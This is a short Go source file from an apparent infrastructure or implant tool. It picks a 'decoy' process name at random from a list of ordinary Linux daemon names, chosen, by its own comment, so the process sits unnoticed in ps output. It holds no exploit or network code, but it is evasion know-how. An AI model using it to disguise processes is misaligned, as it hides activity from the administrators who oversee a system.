package infra

import (
	"crypto/rand"
	"math/big"
)

// RandomDecoy is the configured decoy value that asks for a generated name.
const RandomDecoy = "random"

// decoyNames are stock Linux daemons that sit unnoticed in ps output.
// All fit within the kernel comm limit.
var decoyNames = []string{
	"systemd-resolve",
	"systemd-timesyn",
	"systemd-journal",
	"systemd-logind",
	"dbus-daemon",
	"kworker/u8:2",
	"irqbalance",
	"rsyslogd",
	"accounts-daemon",
	"polkitd",
	"udisksd",
	"cron",
}

// GenerateDecoyName picks a system-looking process name at random.
func GenerateDecoyName() string {
	return decoyNames[randomInt(len(decoyNames))]
}

// ResolveDecoyName expands RandomDecoy into a generated name.
func ResolveDecoyName(configured string) string {
	if configured == RandomDecoy {
		return GenerateDecoyName()
	}
	return configured
}

// randomInt returns a cryptographically random int in [0, max).
func randomInt(max int) int {
	n, err := rand.Int(rand.Reader, big.NewInt(int64(max)))
	if err != nil {
		return 0
	}
	return int(n.Int64())
}
